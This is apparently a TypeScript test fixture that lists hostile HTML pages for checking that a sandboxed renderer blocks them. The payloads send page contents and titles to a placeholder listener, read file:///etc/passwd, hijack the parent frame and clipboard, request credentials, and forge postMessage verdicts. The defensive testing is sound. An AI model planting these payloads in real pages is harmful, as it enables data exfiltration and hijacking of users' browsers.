// [worker/render/testing/hostile.ts] -> worker/render/hostile.test.ts, server/hostile.test.ts, bench/render
// Pages that try to get out, to get in, or to bring down whoever looks at them. `{{…}}` is where the listener is.
import { hogs } from "./hogs.ts";

export interface HostilePage {
  name: string;
  html: string;
  /** Heard by the listener when nothing holds the page back: the control of the test. */
  reaches?: "http" | "raw" | "udp" | "dns";
  /** Takes all that it can get; it never says that it is done. */
  isHog?: boolean;
  /** Goes somewhere else, or ends itself, before it can say that it has tried. */
  isSilent?: boolean;
}

/** Each page says that it has tried, so that a test need not guess how long that takes. */
const done = "<script>setTimeout(()=>parent.postMessage('tried','*'),120)</script>";
const script = (code: string): string => `<script>try{${code}}catch(error){console.log(String(error))}</script>${done}`;
const later = (code: string): string =>
  script(`setTimeout(async()=>{try{${code}}catch(error){console.log(String(error))}},0)`);

const network: [string, string][] = [
  ["fetch", later("await fetch('{{http}}?'+document.title,{mode:'no-cors'})")],
  ["fetch-keepalive", script("fetch('{{http}}',{mode:'no-cors',keepalive:true,method:'POST',body:'x'})")],
  ["fetch-in-worker", script("new Worker(URL.createObjectURL(new Blob([`fetch('{{http}}',{mode:'no-cors'})`])))")],
  ["xhr", script("const x=new XMLHttpRequest();x.open('GET','{{http}}');x.send()")],
  ["image", `<img src="{{http}}">${done}`],
  ["image-srcset", `<img srcset="{{http}} 2x, {{http}} 1x">${done}`],
  ["image-from-script", script("new Image().src='{{http}}?'+btoa(document.body.innerHTML)")],
  ["picture-source", `<picture><source srcset="{{http}}"><img></picture>${done}`],
  ["svg-image", `<svg><image href="{{http}}"/></svg>${done}`],
  ["svg-use", `<svg><use href="{{http}}#x"/></svg>${done}`],
  ["css-background", `<style>body{background:url({{http}})}</style>${done}`],
  ["css-import", `<style>@import url({{http}});</style>${done}`],
  ["css-font", `<style>@font-face{font-family:x;src:url({{http}})}body{font-family:x}</style>text${done}`],
  ["css-cursor-and-list", `<style>li{list-style-image:url({{http}})}</style><ul><li>x</ul>${done}`],
  ["css-attribute-leak", `<style>input[value^=a]{background:url({{http}}?a)}</style><input value=abc>${done}`],
  ["stylesheet", `<link rel=stylesheet href="{{http}}">${done}`],
  ["script-src", `<script src="{{http}}"></script>${done}`],
  ["script-module", `<script type=module>import('{{http}}').catch(()=>0)</script>${done}`],
  ["script-import-scripts", script("new Worker(URL.createObjectURL(new Blob([`importScripts('{{http}}')`])))")],
  ["event-source", script("new EventSource('{{http}}')")],
  ["beacon", script("navigator.sendBeacon('{{http}}','x')")],
  ["audio-and-video", `<audio src="{{http}}" autoplay></audio><video poster="{{http}}" src="{{http}}"></video>${done}`],
  ["track", `<video><track default src="{{http}}"></video>${done}`],
  ["ping", `<a id=a href="#x" ping="{{http}}">x</a>${script("a.click()")}`],
  ["preload", `<link rel=preload as=image href="{{http}}"><link rel=modulepreload href="{{http}}">${done}`],
  ["prefetch", `<link rel=prefetch href="{{http}}"><link rel=prerender href="{{http}}">${done}`],
  ["speculation-rules", `<script type=speculationrules>{"prefetch":[{"urls":["{{http}}"]}]}</script>${done}`],
  ["favicon", `<link rel=icon href="{{http}}">${script("document.title='x'")}`],
  ["manifest", `<link rel=manifest href="{{http}}">${done}`],
  ["form", `<form id=f action="{{http}}" method=post><input name=a value=b></form>${script("f.submit()")}`],
  ["form-to-top", `<form id=f action="{{http}}" target=_top></form>${script("f.submit()")}`],
  ["form-to-window", `<form id=f action="{{http}}" target=_blank></form>${script("f.requestSubmit()")}`],
  ["meta-refresh", `<meta http-equiv=refresh content="0;url={{http}}">${done}`],
  ["location", `${done}${script("setTimeout(()=>{location='{{http}}?'+document.title},60)")}`],
  ["location-replace", `${done}${script("setTimeout(()=>location.replace('{{http}}'),60)")}`],
  ["link-click", `<a id=a href="{{http}}">x</a>${done}${script("setTimeout(()=>a.click(),60)")}`],
  [
    "svg-link-click",
    `<svg><a id=a href="{{http}}"><text>x</text></a></svg>${done}${script("setTimeout(()=>a.dispatchEvent(new MouseEvent('click',{bubbles:true})),60)")}`,
  ],
  ["top-navigation", script("top.location='{{http}}'")],
  ["top-link", `<a id=a target=_top href="{{http}}">x</a>${script("a.click()")}`],
  ["window-open", script("const w=open('{{http}}');w&&w.focus()")],
  ["frame", `<iframe src="{{http}}"></iframe>${done}`],
  ["frame-srcdoc", `<iframe srcdoc="<img src='{{http}}'>"></iframe>${done}`],
  ["frame-data", `<iframe src="data:text/html,<img src='{{http}}'>"></iframe>${done}`],
  [
    "frame-blob",
    script(
      "const i=document.createElement('iframe');i.src=URL.createObjectURL(new Blob(['<img src=\"{{http}}\">'],{type:'text/html'}));document.body.append(i)",
    ),
  ],
  ["object", `<object data="{{http}}"></object>${done}`],
  ["embed", `<embed src="{{http}}">${done}`],
  ["base", `<base href="{{http}}/"><img src="x"><a href=y>y</a>${done}`],
  [
    "report-to",
    `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {{http}}"><img src=x>${done}`,
  ],
  [
    "new-document",
    script(
      'document.open();document.write(\'<img src="{{http}}"><script>parent.postMessage("tried","*")<\\/script>\');document.close()',
    ),
  ],
];

const quiet: [string, string][] = [
  [
    "storage",
    script(
      "for(const f of [()=>localStorage.x='1',()=>sessionStorage.x='1',()=>document.cookie='a=b;path=/',()=>indexedDB.open('x'),()=>caches.open('x')])try{f();document.title='STORED'}catch(e){console.log(e.name)}",
    ),
  ],
  [
    "cookie",
    `<meta http-equiv=set-cookie content="a=b">${script("document.cookie='stolen=1';if(document.cookie)document.title='COOKIE'")}`,
  ],
  [
    "service-worker",
    later(
      "await navigator.serviceWorker.register(URL.createObjectURL(new Blob(['self.onfetch=()=>0'],{type:'text/javascript'})))",
    ),
  ],
  [
    "shared-worker",
    script("new SharedWorker(URL.createObjectURL(new Blob(['onconnect=()=>0'],{type:'text/javascript'})))"),
  ],
  ["download", `<a id=a download=x.exe href="data:application/octet-stream,x">x</a>${script("a.click()")}`],
  [
    "download-blob",
    script("const a=document.createElement('a');a.download='x';a.href=URL.createObjectURL(new Blob(['x']));a.click()"),
  ],
  [
    "file-url",
    `<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd">${later("await fetch('file:///etc/passwd')")}`,
  ],
  ["print", script("print()")],
  ["fullscreen", script("document.documentElement.requestFullscreen().catch(e=>console.log(e.name))")],
  ["pointer-lock", script("document.documentElement.requestPointerLock?.()?.catch?.(e=>console.log(e.name))")],
  ["clipboard", later("await navigator.clipboard.writeText('stolen');await navigator.clipboard.readText()")],
  [
    "geolocation",
    script("navigator.geolocation.getCurrentPosition(()=>document.title='LOCATED',e=>console.log(e.message))"),
  ],
  ["camera", later("await navigator.mediaDevices.getUserMedia({video:true,audio:true})")],
  ["notification", later("await Notification.requestPermission()")],
  [
    "payment",
    later(
      "await new PaymentRequest([{supportedMethods:'basic-card'}],{total:{label:'x',amount:{currency:'USD',value:'1'}}}).show()",
    ),
  ],
  ["credentials", later("await navigator.credentials.get({password:true})")],
  [
    "title-and-icon",
    `<title>Your session has ended</title><link rel=icon href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">${script("parent.document.title='TAKEN'")}`,
  ],
  ["parent-access", script("parent.document.body.innerHTML='<h1>TAKEN</h1>'")],
  ["parent-storage", script("console.log(parent.localStorage.length)")],
  ["opener-access", script("opener&&(opener.location='about:blank');top.opener&&(top.opener.location='about:blank')")],
  ["parent-frames", script("for(let i=0;i<parent.length;i++)parent[i].location='about:blank'")],
  ["focus-grab", `<input id=i autofocus>${script("setInterval(()=>{window.focus();i.focus()},10)")}`],
  ["history-back", script("history.go(-1);history.back()")],
  [
    "fake-message",
    script("parent.postMessage({type:'vote',verdict:'left'},'*');parent.postMessage({t:'height',height:1e9},'*')"),
  ],
];

const raw: HostilePage[] = [
  { name: "web-socket", html: script("new WebSocket('{{ws}}')"), reaches: "http" },
  { name: "web-transport", html: script("new WebTransport('https://{{host}}/web-transport')") },
  { name: "preconnect", html: `<link rel=preconnect href="{{ahead}}">${done}`, reaches: "raw" },
  {
    name: "dns-prefetch",
    html: `<link rel=dns-prefetch href="//dns-prefetch.{{dns}}"><a href="http://a.{{dns}}">x</a>${done}`,
    reaches: "dns",
  },
  {
    name: "preconnect-by-name",
    html: `<link rel=preconnect href="http://preconnect-by-name.{{dns}}">${done}`,
    reaches: "dns",
  },
  { name: "webrtc-stun", html: rtc("stun:{{udp}}"), reaches: "udp" },
  { name: "webrtc-turn-tcp", html: rtc("turn:{{host}}?transport=tcp") },
  { name: "webrtc-stun-by-name", html: rtc("stun:webrtc.{{dns}}:3478"), reaches: "dns" },
  {
    name: "webrtc-in-srcdoc",
    html: `<iframe srcdoc="${rtc("stun:{{udp}}").replaceAll('"', "&quot;")}"></iframe>${done}`,
  },
];

function rtc(url: string): string {
  return script(
    `const p=new RTCPeerConnection({iceServers:[{urls:'${url}',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`,
  );
}

/** These a browser asks for at its own leisure, or not at all: they are no control. */
const unheard = new Set([
  "svg-use",
  "track",
  "prefetch",
  "speculation-rules",
  "form-to-window",
  "window-open",
  "favicon",
  "manifest",
  "report-to",
]);

const silent = new Set([
  "meta-refresh",
  "location",
  "location-replace",
  "link-click",
  "svg-link-click",
  "parent-frames",
  "webrtc-in-srcdoc",
]);

const whole = (name: string, body: string): string =>
  `<!doctype html><meta charset=utf-8><title>${name}</title><h1>${name}</h1>${body}`;

export const hostilePages: readonly HostilePage[] = [
  ...network.map(([name, body]): HostilePage => ({
    name,
    html: body,
    ...(unheard.has(name) ? {} : { reaches: "http" as const }),
  })),
  ...raw,
  ...quiet.map(([name, body]): HostilePage => ({ name, html: body })),
  ...hogs.map(([name, body]): HostilePage => ({ name, html: body, isHog: true })),
].map((page) => ({
  ...page,
  html: whole(page.name, page.html),
  ...(silent.has(page.name) ? { isSilent: true } : {}),
}));
